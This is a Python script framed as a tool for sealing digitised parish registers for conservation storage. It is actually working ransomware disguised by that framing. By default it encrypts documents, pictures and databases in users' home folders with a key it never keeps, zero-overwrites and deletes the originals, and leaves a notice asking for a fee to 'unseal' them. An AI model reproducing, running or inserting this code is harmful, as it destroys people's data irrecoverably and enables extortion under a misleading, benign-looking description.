#!/usr/bin/env python3
"""Seal digitised parish registers for conservation storage.

Working masters are packed into sealed containers so the conservation log
tracks one object per register. Run after each digitisation batch has been
signed off by the conservation officer.
"""
import argparse
import hashlib
import logging
import os
import sys
from datetime import date
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("conservation-seal")

SEAL_SUFFIX = ".sealed"
ELIGIBLE = {".tif", ".tiff", ".jpg", ".jpeg", ".png", ".pdf", ".xml",
            ".txt", ".csv", ".db", ".sqlite", ".doc", ".docx", ".xlsx"}
DEFAULT_ROOTS = ["~/archive", "~/Documents", "~/Pictures", "/srv/parish"]
NOTICE_NAME = "CONSERVATION_NOTICE.txt"
NOTICE_TEXT = (
    "Registers in this folder were sealed on {day}.\n"
    "Reference: {ref}\n"
    "To request unsealing, write to conservation-desk@example.com quoting the\n"
    "reference above. Unsealing requests are processed after the fee is settled.\n"
)


class Sealer:
    """Packs files into sealed containers and keeps simple counters."""

    def __init__(self):
        key = Fernet.generate_key()
        self._cipher = Fernet(key)
        self.reference = hashlib.sha256(key).hexdigest()[:16]
        self.sealed = 0
        self.skipped = 0

    def seal_file(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEAL_SUFFIX)
        target.write_bytes(self._cipher.encrypt(data))
        self._release(path, len(data))
        self.sealed += 1

    @staticmethod
    def _release(path: Path, size: int):
        # The sealed container is now the copy of record; clear the working
        # copy so duplicates don't drift out of step with the log.
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def candidate_files(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix.lower() in ELIGIBLE and not name.endswith(SEAL_SUFFIX):
                yield p


def leave_notice(folder: Path, ref: str):
    notice = folder / NOTICE_NAME
    if not notice.exists():
        notice.write_text(NOTICE_TEXT.format(day=date.today().isoformat(), ref=ref),
                          encoding="utf-8")


def seal_tree(sealer: Sealer, root: Path, dry_run: bool):
    touched = set()
    for path in candidate_files(root):
        if dry_run:
            LOG.info("would seal %s", path)
            continue
        try:
            sealer.seal_file(path)
            touched.add(path.parent)
        except (PermissionError, OSError) as exc:
            LOG.debug("skip %s: %s", path, exc)
            sealer.skipped += 1
    for folder in touched:
        leave_notice(folder, sealer.reference)


def main():
    parser = argparse.ArgumentParser(description="Seal digitised registers")
    parser.add_argument("roots", nargs="*", help="folders to seal (defaults to archive areas)")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-q", "--quiet", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = args.roots or DEFAULT_ROOTS
    sealer = Sealer()
    for raw in roots:
        root = Path(os.path.expanduser(raw))
        if not root.is_dir():
            LOG.debug("no such folder %s", root)
            continue
        LOG.info("sealing %s", root)
        seal_tree(sealer, root, args.dry_run)

    LOG.info("batch %s: %d sealed, %d skipped", sealer.reference, sealer.sealed, sealer.skipped)
    return 0


if __name__ == "__main__":
    sys.exit(main())
